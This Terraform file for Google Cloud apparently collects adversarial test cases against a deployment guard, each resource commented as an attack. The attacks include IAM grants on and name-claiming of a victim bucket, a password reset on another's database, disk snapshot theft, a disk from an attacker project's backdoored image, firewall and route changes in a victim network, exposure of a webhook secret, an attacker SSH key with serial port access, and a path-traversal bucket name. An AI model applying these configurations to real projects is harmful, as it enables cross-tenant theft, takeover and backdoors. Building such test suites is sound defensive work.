resource "random_string" "z" {
  length = 8
}
resource "google_service_account" "me" {
  account_id = "me${var.name_suffix}"
}
resource "google_storage_bucket" "own" {
  name     = "own${var.name_suffix}"
  location = "US"
  labels   = { t = trimsuffix("victim-bucket", random_string.z.result) }
}
# attack: a grant on what an own label says
resource "google_storage_bucket_iam_member" "label" {
  bucket = google_storage_bucket.own.labels["t"]
  role   = "roles/storage.objectAdmin"
  member = google_service_account.me.member
}
# attack: a grant on another's bucket whose name is claimed
resource "google_storage_bucket_iam_member" "claimed" {
  bucket = "victim-bucket"
  role   = "roles/storage.objectAdmin"
  member = google_service_account.me.member
}
# attack: the claim itself
resource "google_storage_bucket" "claim" {
  name       = "victim-bucket"
  location   = "US"
  depends_on = [google_storage_bucket_iam_member.claimed]
}
# attack: a password on another deployment's database
resource "google_sql_user" "theirs" {
  instance = "app-db-victim"
  name     = "postgres"
  password = "known"
}
# attack: a copy of another machine's disk
resource "google_compute_snapshot" "theft" {
  name        = "theft${var.name_suffix}"
  zone        = var.zone
  source_disk = "projects/${var.project_id}/zones/us-central1-a/disks/backend-vm-1-victim"
}
# attack: a disk of a stranger's image
resource "google_compute_disk" "foreign" {
  name  = "foreign${var.name_suffix}"
  zone  = var.zone
  image = "projects/attacker-project/global/images/backdoored"
}
# attack: another's disk in an own machine
resource "google_compute_attached_disk" "theft" {
  instance = google_compute_instance.backend_vm_1.id
  disk     = "projects/${var.project_id}/zones/us-central1-a/disks/data-victim"
}
# attack: a clone of another's database
resource "google_sql_database_instance" "clone" {
  name             = "clone${var.name_suffix}"
  region           = var.region
  database_version = "POSTGRES_16"
  clone {
    source_instance_name = "app-db-victim"
  }
  settings {
    tier = "db-f1-micro"
    ip_configuration {
      ipv4_enabled    = false
      private_network = google_compute_network.backend_vpc.id
    }
  }
}
# attack: a stranger's project may connect
resource "google_sql_database_instance" "psc" {
  name             = "psc${var.name_suffix}"
  region           = var.region
  database_version = "POSTGRES_16"
  settings {
    tier = "db-f1-micro"
    ip_configuration {
      ipv4_enabled    = false
      private_network = google_compute_network.backend_vpc.id
      psc_config {
        psc_enabled               = true
        allowed_consumer_projects = ["attacker-project"]
      }
    }
  }
}
# attack: a way into another's network
resource "google_compute_firewall" "theirs" {
  name          = "theirs${var.name_suffix}"
  network       = "backend-vpc-victim"
  source_ranges = ["10.0.0.0/8"]
  allow {
    protocol = "tcp"
  }
}
# attack: a route in another's network
resource "google_compute_route" "theirs" {
  name             = "theirs${var.name_suffix}"
  network          = "projects/${var.project_id}/global/networks/backend-vpc-victim"
  dest_range       = "0.0.0.0/0"
  next_hop_gateway = "default-internet-gateway"
}
# attack: a machine in the default network with its SSH rule
resource "google_compute_instance" "default_network" {
  name         = "n${var.name_suffix}"
  zone         = var.zone
  machine_type = "e2-micro"
  boot_disk {
    initialize_params {
      image = "debian-cloud/debian-12"
    }
  }
  network_interface {
    network = "default"
  }
}
# attack: a topic in a project that only apply can tell
resource "google_pubsub_topic" "elsewhere" {
  name    = "elsewhere${var.name_suffix}"
  project = trimsuffix("other-project", random_string.z.result)
}
# attack: a Cloud Run service of the same name in another place
resource "google_cloud_run_v2_service_iam_member" "platform" {
  name     = "decisions"
  location = "us-central1"
  role     = "roles/run.invoker"
  member   = google_service_account.me.member
}
# attack: the API is disabled for everybody afterwards
resource "google_project_service" "off" {
  service            = "pubsub.googleapis.com"
  disable_on_destroy = true
}
# attack: logs of others become a metric's labels
resource "google_logging_metric" "reads" {
  name   = "reads${var.name_suffix}"
  filter = "resource.type=\"cloud_run_revision\""
  label_extractors = {
    url = "EXTRACT(httpRequest.requestUrl)"
  }
  metric_descriptor {
    metric_kind = "DELTA"
    value_type  = "INT64"
    labels {
      key = "url"
    }
  }
}
# attack: another's secret in the environment
resource "google_cloud_run_v2_service" "secret" {
  name     = "secret${var.name_suffix}"
  location = var.region
  template {
    service_account = google_service_account.me.email
    containers {
      image = "us-docker.pkg.dev/cloudrun/container/hello"
      env {
        name = "S"
        value_source {
          secret_key_ref {
            secret  = "infraai-webhook-token"
            version = "latest"
          }
        }
      }
    }
  }
}
# attack: a key and the serial port, which no firewall closes
resource "google_compute_instance" "serial" {
  name         = "s${var.name_suffix}"
  zone         = var.zone
  machine_type = "e2-micro"
  metadata = {
    serial-port-enable = "TRUE"
    ssh-keys           = "root:ssh-ed25519 AAAA attacker"
  }
  boot_disk {
    initialize_params {
      image = "debian-cloud/debian-12"
    }
  }
  network_interface {
    subnetwork = google_compute_subnetwork.backend_subnet.id
  }
}
# attack: another's bucket before the own name
resource "google_storage_bucket_iam_member" "before" {
  bucket = "victim-bucket/../${google_storage_bucket.own.name}"
  role   = "roles/storage.objectAdmin"
  member = google_service_account.me.member
}
